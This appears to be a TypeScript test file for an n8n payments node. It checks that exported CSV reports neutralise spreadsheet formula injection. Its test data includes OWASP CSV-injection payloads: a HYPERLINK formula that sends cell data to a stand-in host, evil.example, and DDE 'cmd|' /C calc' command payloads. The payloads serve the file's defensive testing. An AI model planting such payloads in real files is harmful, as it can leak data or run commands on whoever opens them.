import { parse } from 'csv-parse/sync';
import type { INodeExecutionData } from 'n8n-workflow';

import { paymentsNode, WorkflowBuilder } from '../../harness/fixtures';
import { iso } from '../../harness/records';
import { sharedFixture } from '../../harness/sharedFixture';
import { REPORTING_LISTS } from '../../../nodes/PaymentsService/reporting/lists';

const NODE = 'Payments Service';
const DAY = 86_400;
const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'];

/**
 * Texts a stranger can put into a record (a payer's name, document or order id): OWASP's CSV
 * injection examples and each first character a spreadsheet runs, beside texts that only hold one
 * of them later, and texts CSV itself must quote.
 */
const HOSTILE_TEXTS = [
	'=HYPERLINK("http://evil.example/?"&A1,"open")',
	"-2+3+cmd|' /C calc'!A0",
	'+5511999998888',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'=1+1\r\n=2+2',
	'a=b, c+d',
	'María "La Jefa" Pérez',
	'-',
	' =leading space',
];

/** A CSV field as the service sent `value`: texts as they are, numbers as printed, objects as JSON. */
const asServed = (value: unknown) =>
	value === undefined || value === null
		? ''
		: typeof value === 'object'
			? JSON.stringify(value)
			: String(value);

/** What a file for people holds for `value`: a text a spreadsheet would run starts with an apostrophe. */
const escaped = (value: unknown) =>
	typeof value === 'string' && FORMULA_START.includes(value.charAt(0))
		? `'${value}`
		: asServed(value);

function workflow(operation: string, parameters: Record<string, unknown>) {
	const builder = new WorkflowBuilder(`Deposit ${operation}`);
	builder.then(
		paymentsNode({ resource: 'deposit', operation, ...parameters }, 'paymentsServiceSessionApi'),
	);
	return { ...builder.build(), settings: {} };
}

/** The file's rows as a CSV parser reads them, by column name. */
const rowsOf = (item: INodeExecutionData, field = 'data') =>
	parse(Buffer.from(item.binary![field].data, 'base64'), { bom: true, columns: true }) as Array<
		Record<string, string>
	>;

describe('Report files are safe to open: a text a spreadsheet would run as a formula starts with an apostrophe; numbers and other texts as served', () => {
	const fixture = sharedFixture({
		sandbox: { days: 180, depositsPerDay: 0, cashoutsPerDay: 0 },
	});
	let from: number;
	let to: number;
	let records: Array<Record<string, unknown>>;

	beforeAll(() => {
		const fx = fixture();
		const now = Math.floor(fx.sandbox.clock.now() / 1000);
		from = now - 3 * DAY;
		to = now - DAY;
		// Each hostile text in every text field a stranger fills, and negative amounts.
		records = HOSTILE_TEXTS.map(
			(text, index) =>
				fx.sandbox.control.addDeposit({
					idMerchant: 1001,
					creationDate: iso(from + 600 * (index + 1)),
					externalId: text,
					clientDocument: text,
					clientId: text,
					merchantName: text,
					amount: -5 - index,
					fee: -0.5,
					localAmount: index % 2 ? -1e-7 : 1234.5,
				}) as unknown as Record<string, unknown>,
		);
	});
	beforeEach(() => fixture().sandbox.log.clear());

	/** Deposit → `operation` over the period of the records made, with `parameters`. */
	const runOver = async (operation: string, parameters: Record<string, unknown>) =>
		await fixture().engine.run(
			workflow(operation, {
				period: 'custom',
				createdFrom: iso(from),
				createdTo: iso(to),
				...parameters,
			}),
		);

	/** Compares the file with the records cell by cell; the differences, as [id, column, in the file, expected]. */
	function differences(
		rows: Array<Record<string, string>>,
		expected: (value: unknown) => string,
	): Array<[string, string, string, string]> {
		const byId = new Map(records.map((record) => [String(record.idDeposit), record]));
		const found: Array<[string, string, string, string]> = [];
		expect(rows).toHaveLength(records.length);
		for (const row of rows) {
			const record = byId.get(row.idDeposit);
			if (!record) found.push([row.idDeposit, 'idDeposit', row.idDeposit, 'a record']);
			for (const column of REPORTING_LISTS.deposit.fields) {
				const want = expected(record?.[column]);
				if (row[column] !== want) found.push([row.idDeposit, column, row[column], want]);
			}
		}
		return found;
	}

	test('Export to File (default): every cell as served, except texts starting with =, +, -, @, tab or CR, which start with an apostrophe; no cell the service sent as text starts with one of them', async () => {
		const run = await runOver('exportToFile', {
			options: { bom: true },
		});
		expect(run.error).toBeUndefined();
		const rows = rowsOf(run.output(NODE)[0]);
		expect(differences(rows, escaped)).toEqual([]);
		// The rule itself, cell by cell: a cell starting with a formula character holds a number the service sent.
		const live = rows.flatMap((row) =>
			Object.entries(row)
				.filter(([, cell]) => FORMULA_START.includes(cell.charAt(0)))
				.filter(([column, cell]) => {
					const served = records.find((record) => String(record.idDeposit) === row.idDeposit)?.[
						column
					];
					return typeof served !== 'number' || String(served) !== cell;
				}),
		);
		expect(live).toEqual([]);
		// Negative amounts are numbers, written unquoted and unchanged (differences() checked each cell).
		const text = Buffer.from(run.output(NODE)[0].binary!.data.data, 'base64').toString('utf8');
		expect(text).toContain(',-5,');
		expect(text).toContain(',-1e-7,');
	});

	test('Escape Formulas off (a file for a program): every cell exactly as served', async () => {
		const run = await runOver('exportToFile', {
			options: { escapeFormulas: false },
		});
		expect(run.error).toBeUndefined();
		expect(differences(rowsOf(run.output(NODE)[0]), asServed)).toEqual([]);
	});

	test('Summarize with Write Records to File writes the same safe file, and counts the same records', async () => {
		const run = await runOver('summarize', {
			writeFile: true,
			options: { timeZone: 'UTC' },
		});
		expect(run.error).toBeUndefined();
		const totals = run.output(NODE).at(-1)!;
		expect(totals.json.count).toBe(records.length);
		expect(differences(rowsOf(totals), escaped)).toEqual([]);
	});

	test('Escape Formulas from an expression that gives neither true nor false fails naming the option and the item; nothing is sent', async () => {
		const fx = fixture();
		const run = await runOver('exportToFile', {
			options: { escapeFormulas: '={{ "no" }}' },
		});
		expect(run.error?.message).toBe('Escape Formulas must be true or false, got "no" (item 0)');
		expect(fx.sandbox.log.entries()).toEqual([]);
	});
});
